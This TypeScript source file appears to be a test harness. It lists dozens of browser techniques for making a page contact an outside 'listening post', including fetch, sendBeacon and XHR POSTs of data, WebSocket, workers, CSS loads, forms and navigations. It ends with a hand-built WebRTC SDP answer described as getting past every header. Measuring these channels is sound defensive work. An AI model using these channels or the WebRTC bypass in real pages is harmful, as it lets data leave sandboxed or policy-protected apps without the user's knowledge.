// The ways by which a page can make a browser connect somewhere. Each runs in a page as it stands here, in the frame of an
// app and, to prove that it works at all, in a page without any header.
import type { Target } from './listening-post.ts';

interface MadeElement {
  readonly tag: string;
  readonly attribute: string;
  readonly others: Readonly<Record<string, string>>;
}

export interface Attack {
  readonly name: string;
  /** What `run` makes, for attacks that differ in nothing else. */
  readonly element?: MadeElement;
  /** Runs in the page, and does not wait for what comes of it. */
  readonly run: (to: Target & { readonly element?: MadeElement }) => void;
  /** The page may be gone afterwards: it went elsewhere, or Chromium ended it, as it does with WebRTC that is refused. */
  readonly leaves?: true;
}

/** Elements that load what they name, with the attribute that names it. */
const ELEMENTS: readonly (readonly [tag: string, attribute: string, others?: Readonly<Record<string, string>>])[] = [
  ['img', 'src'],
  ['img', 'srcset'],
  ['script', 'src'],
  ['script', 'src', { type: 'module' }],
  ['link', 'href', { rel: 'stylesheet' }],
  ['link', 'href', { rel: 'preload', as: 'image' }],
  ['link', 'href', { rel: 'modulepreload' }],
  ['link', 'href', { rel: 'prefetch' }],
  ['link', 'href', { rel: 'preconnect' }],
  ['video', 'src'],
  ['video', 'poster'],
  ['audio', 'src', { preload: 'auto' }],
  ['iframe', 'src'],
  ['embed', 'src'],
  ['object', 'data'],
  ['input', 'src', { type: 'image' }],
];

function element([tag, attribute, others = {}]: (typeof ELEMENTS)[number]): Attack {
  const more = Object.entries(others).map(([name, value]) => ` ${name}="${value}"`);
  return {
    name: `<${tag}${more.join('')} ${attribute}>`,
    element: { tag, attribute, others },
    run: ({ http, element: made }) => {
      if (made === undefined) return;
      const part = document.createElement(made.tag);
      for (const [name, value] of Object.entries(made.others)) part.setAttribute(name, value);
      part.setAttribute(made.attribute, `${http}/element`);
      document.documentElement.append(part);
    },
  };
}

export const attacks: readonly Attack[] = [
  ...ELEMENTS.map(element),
  { name: 'fetch', run: (to) => void fetch(to.http, { mode: 'no-cors' }).catch(() => {}) },
  {
    name: 'fetch with keepalive',
    run: (to) => void fetch(to.http, { mode: 'no-cors', keepalive: true }).catch(() => {}),
  },
  {
    name: 'XMLHttpRequest',
    run: (to) => {
      const request = new XMLHttpRequest();
      request.open('POST', to.http);
      request.send('data');
    },
  },
  { name: 'sendBeacon', run: (to) => void navigator.sendBeacon(to.http, 'data') },
  {
    name: 'fetchLater',
    run: (to) => {
      Reflect.get(window, 'fetchLater')(to.http, { activateAfter: 0 });
    },
  },
  { name: 'EventSource', run: (to) => void new EventSource(to.http) },
  { name: 'WebSocket', run: (to) => void new WebSocket(`ws://${to.host}`) },
  {
    name: 'WebTransport',
    run: (to) => {
      const transport = new WebTransport(`https://${to.udp}/`);
      for (const end of [transport.ready, transport.closed]) end.catch(() => {});
    },
  },
  {
    name: 'import()',
    run: (to) => void import(`${to.http}/module.js`).catch(() => {}),
  },
  {
    name: 'a font of a style sheet',
    run: (to) => {
      const style = document.createElement('style');
      style.textContent = `@font-face { font-family: far; src: url(${to.http}/font) } body { font-family: far }`;
      document.head.append(style);
      document.body.append('text in that font');
    },
  },
  { name: '<body background>', run: (to) => document.body.setAttribute('background', `${to.http}/picture`) },
  {
    name: 'url() in a style',
    run: (to) => document.body.setAttribute('style', `background: url(${to.http}/picture)`),
  },
  {
    name: '@import in a style',
    run: (to) => {
      const style = document.createElement('style');
      style.textContent = `@import url(${to.http}/style.css);`;
      document.head.append(style);
    },
  },
  {
    name: '<image> of an SVG',
    run: (to) => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', `${to.http}/picture`);
      document.body.append(svg);
      svg.append(image);
    },
  },
  {
    name: 'speculation rules that prefetch',
    run: (to) => {
      const script = document.createElement('script');
      script.type = 'speculationrules';
      script.textContent = JSON.stringify({ prefetch: [{ urls: [`${to.http}/page`], eagerness: 'immediate' }] });
      document.head.append(script);
    },
  },
  {
    name: '<a ping>',
    run: (to) => {
      const link = document.createElement('a');
      link.href = '#pinged';
      link.ping = to.http;
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'a worker of the app that fetches',
    run: (to) => new Worker('worker.js').postMessage({ fetch: to.http }),
  },
  {
    name: 'a worker of the app that imports a script',
    run: (to) => new Worker('worker.js').postMessage({ importScripts: `${to.http}/script.js` }),
  },
  {
    name: 'a worker of the app with a WebSocket',
    run: (to) => new Worker('worker.js').postMessage({ socket: `ws://${to.host}` }),
  },
  {
    name: 'a shared worker of the app that fetches',
    run: (to) => new SharedWorker('worker.js').port.postMessage({ fetch: to.http }),
  },
  {
    name: 'fetch by a frame without an address in the page',
    run: (to) => {
      const inner = document.body.appendChild(document.createElement('iframe'));
      void inner.contentWindow?.fetch(to.http, { mode: 'no-cors' }).catch(() => {});
    },
  },
  {
    name: 'WebRTC: a STUN server',
    leaves: true,
    run: (to) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${to.udp}` }] });
      connection.createDataChannel('x');
      void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    },
  },
  {
    name: 'WebRTC: a TURN server',
    leaves: true,
    run: (to) => {
      const server = { urls: `turn:${to.udp}`, username: 'what-the-app-knows', credential: 'x' };
      const connection = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: 'relay' });
      connection.createDataChannel('x');
      void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    },
  },
  {
    name: 'WebRTC by a frame without an address in the page',
    leaves: true,
    run: (to) => {
      const inner = document.body.appendChild(document.createElement('iframe'));
      const { RTCPeerConnection: Inner } = inner.contentWindow as unknown as typeof globalThis;
      const connection = new Inner({ iceServers: [{ urls: `stun:${to.udp}` }] });
      connection.createDataChannel('x');
      void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    },
  },
  {
    name: 'a form',
    leaves: true,
    run: (to) => {
      const form = document.createElement('form');
      form.action = to.http;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'a form into a new window',
    leaves: true,
    run: (to) => {
      const form = document.createElement('form');
      form.action = to.http;
      form.target = '_blank';
      document.body.append(form);
      form.submit();
    },
  },
  { name: 'location', leaves: true, run: (to) => location.assign(to.http) },
  {
    name: '<meta http-equiv="refresh">',
    leaves: true,
    run: (to) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${to.http}`;
      document.head.append(meta);
    },
  },
  {
    name: 'navigation of the top window',
    leaves: true,
    run: (to) => {
      try {
        (window.top ?? window).location.href = to.http;
      } catch {
        // Refused.
      }
    },
  },
  { name: 'window.open', leaves: true, run: (to) => void window.open(to.http) },
  { name: 'window.open with noopener', leaves: true, run: (to) => void window.open(to.http, '_blank', 'noopener') },
  {
    name: 'a link into a new window',
    leaves: true,
    run: (to) => {
      const link = document.createElement('a');
      link.href = to.http;
      link.target = '_blank';
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'a link to download',
    leaves: true,
    run: (to) => {
      const link = document.createElement('a');
      link.href = to.http;
      link.download = 'file';
      document.body.append(link);
      link.click();
    },
  },
];

/** What no header holds in Chromium 156: checks of connectivity go to whatever peer a page names, with text of its choice. */
export const openAttack: Attack = {
  name: 'WebRTC: a peer named by its address',
  run: (to) => {
    const connection = new RTCPeerConnection();
    connection.createDataChannel('x');
    const [address, port] = to.udp.split(':');
    const answer = [
      'v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0\r\n',
      'm=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\nc=IN IP4 0.0.0.0\r\na=mid:0\r\na=sctp-port:5000\r\n',
      'a=ice-ufrag:abcd\r\na=ice-pwd:abcdefghijklmnopqrstuvwx\r\na=setup:active\r\na=ice-lite\r\n',
      `a=fingerprint:sha-256 ${Array.from({ length: 32 }, () => 'AA').join(':')}\r\n`,
      `a=candidate:1 1 udp 2130706431 ${address} ${port} typ host\r\n`,
    ].join('');
    void connection
      .createOffer()
      .then((offer) => connection.setLocalDescription(offer))
      .then(() => connection.setRemoteDescription({ type: 'answer', sdp: answer }));
  },
};
